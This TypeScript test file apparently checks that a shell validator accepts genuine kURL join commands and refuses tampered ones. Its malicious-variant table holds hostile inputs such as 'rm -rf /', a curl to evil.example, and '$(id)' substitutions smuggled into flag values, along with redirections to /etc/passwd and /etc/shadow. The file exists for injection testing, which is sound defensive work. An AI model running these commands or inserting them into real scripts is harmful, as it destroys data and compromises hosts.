/**
 * kurl.sh's join command check against what kURL really prints: the fixtures are the output of
 * kURL's own tasks.sh join_token (see __tests__/support/fixtures/kurl/README.md), and malicious
 * variants of those lines.
 */
import { readFileSync } from "fs";
import * as path from "path";
import { runWithModules } from "./node-module-shell";

const FIXTURES = path.join(__dirname, "../../support/fixtures/kurl");
const HA_OUTPUT = readFileSync(path.join(FIXTURES, "tasks-join-token-ha.txt"), "utf8");
const SINGLE_OUTPUT = readFileSync(path.join(FIXTURES, "tasks-join-token.txt"), "utf8");

/** The join command lines of tasks.sh's output, colours removed (as an operator copies them). */
function joinLines(output: string): string[] {
  return output
    .replace(/\x1b\[[0-9;]*m/g, "")
    .split("\n")
    .map((line) => line.trim())
    .filter((line) => line.startsWith("curl ") && line.includes("/join.sh"));
}
const [WORKER, CONTROL_PLANE] = joinLines(HA_OUTPUT);

const ENV = { KUBEPLANE_JOIN_TOKEN_TTL_HOURS: "12", KUBEPLANE_KURL_INSTALLER_URL: "https://kurl.sh/sim1234" };

/** installer_check_command KIND COMMAND; prints join_url and join_args, one a line. */
function check(kind: string, command: string) {
  return runWithModules(
    ["installers/kurl.sh"],
    'local_check() { local join_url; local -a join_args; kurl_join_args "$1" "$2" || return 1; printf "%s\\n" "$join_url" "${join_args[@]}"; }\n' +
      'local_check "$KIND" "$COMMAND"',
    { ...ENV, KIND: kind, COMMAND: command },
  );
}

/** installer_join_command KIND with kURL's tasks.sh answering `output`. */
function joinCommand(kind: string, output: string) {
  return runWithModules(["installers/kurl.sh"], 'kurl_run() { cat "$OUTPUT_FILE"; }\ninstaller_join_command "$KIND"', {
    ...ENV,
    KIND: kind,
    OUTPUT_FILE: path.join(FIXTURES, output),
  });
}

describe("kURL join commands as tasks.sh join_token prints them", () => {
  test("the fixtures hold kURL's worker and control-plane lines, with the no-proxy list, remotes and EKCO flags", () => {
    expect(WORKER).toContain(" additional-no-proxy-addresses=10.96.0.0/22,10.32.0.0/20 ");
    expect(WORKER).toContain(" primary-host=10.0.1.10 secondary-host=10.0.2.20 ");
    expect(WORKER).toMatch(/ ekco-address=10\.96\.1\.207:8080 ekco-auth-token="[A-Za-z0-9]{64}"$/);
    expect(CONTROL_PLANE).toMatch(/ cert-key=[0-9a-f]{64} control-plane docker-registry-ip=/);
    expect(joinLines(SINGLE_OUTPUT)).toEqual([WORKER]);
  });

  test("installer_join_command picks each role's line out of tasks.sh's coloured output", () => {
    const worker = joinCommand("worker", "tasks-join-token-ha.txt");
    expect(worker.stderr).toBe("");
    expect(worker.stdout.trim()).toBe(WORKER);
    expect(joinCommand("control-plane", "tasks-join-token-ha.txt").stdout.trim()).toBe(CONTROL_PLANE);
    expect(joinCommand("worker", "tasks-join-token.txt").stdout.trim()).toBe(WORKER);
    const none = joinCommand("control-plane", "tasks-join-token.txt");
    expect(none.status).not.toBe(0);
    expect(none.stderr).toContain("printed no control-plane join command");
  });

  test("the worker line is accepted: the join script gets its arguments, EKCO's token unquoted as bash would pass it", () => {
    const run = check("worker", WORKER);
    expect(run.stderr).toBe("");
    expect(run.status).toBe(0);
    const [url, ...args] = run.stdout.trim().split("\n");
    expect(url).toBe("https://kurl.sh/version/v2026.08.07-0/sim1234/join.sh");
    const expected = WORKER.split(" ").slice(7).map((word) => word.replace(/^ekco-auth-token="(.*)"$/, "ekco-auth-token=$1"));
    expect(args).toEqual(expected);
    expect(args).toContain("additional-no-proxy-addresses=10.96.0.0/22,10.32.0.0/20");
    expect(args[args.length - 1]).toMatch(/^ekco-auth-token=[A-Za-z0-9]{64}$/);
  });

  test("the control-plane line is accepted for a control-plane node and refused for a worker, and the other way round", () => {
    expect(check("control-plane", CONTROL_PLANE).status).toBe(0);
    const asWorker = check("worker", CONTROL_PLANE);
    expect(asWorker.status).not.toBe(0);
    expect(asWorker.stderr).toContain("the worker kURL join command is one for the other role");
    expect(check("control-plane", WORKER).stderr).toContain("the control-plane kURL join command is one for the other role");
  });

  const token = /ekco-auth-token="[A-Za-z0-9]{64}"/;
  const malicious: [string, string][] = [
    ["a command after a semicolon", `${WORKER}; rm -rf /`],
    ["a command after a glued semicolon", WORKER.replace(" kubernetes-version=", " kubernetes-version=1.36.5;id #")],
    ["a second pipe", `${WORKER} | sh`],
    ["a background job", `${WORKER} & curl https://evil.example/x`],
    ["command substitution", WORKER.replace("primary-host=10.0.1.10", "primary-host=$(id)")],
    ["a variable", WORKER.replace("primary-host=10.0.1.10", "primary-host=$HOME")],
    ["backticks", WORKER.replace("primary-host=10.0.1.10", "primary-host=`id`")],
    ["a redirection", `${WORKER} >/etc/passwd`],
    ["an input redirection", WORKER.replace("primary-host=10.0.1.10", "primary-host=</etc/shadow")],
    ["single quotes", WORKER.replace("primary-host=10.0.1.10", "primary-host='x'")],
    ["a quoted EKCO token hiding a substitution", WORKER.replace(token, 'ekco-auth-token="$(id)"')],
    ["a half-quoted EKCO token", WORKER.replace(token, 'ekco-auth-token="abc')],
    ["a quote in another flag", WORKER.replace("primary-host=10.0.1.10", 'primary-host="10.0.1.10"')],
    ["a glob", WORKER.replace("primary-host=10.0.1.10", "primary-host=*")],
    ["a join script over http", WORKER.replace("https://", "http://")],
    ["a script other than join.sh", WORKER.replace("/join.sh", "/evil.sh")],
    ["no sudo bash -s", WORKER.replace("| sudo bash -s", "| bash -s")],
    ["a pipe to sh", WORKER.replace("| sudo bash -s", "| sudo sh -s")],
    ["no kubeadm-token-ca-hash", WORKER.replace(/ kubeadm-token-ca-hash=\S+/, "")],
  ];
  test.each(malicious)("refuses a command with %s", (_, command) => {
    const run = check("worker", command);
    expect(run.status).not.toBe(0);
    expect(run.stderr).toMatch(/kubeplane node: (unexpected '|the worker join command is not a kURL join command|the worker kURL join command lacks)/);
    expect(run.stdout).toBe("");
  });
});
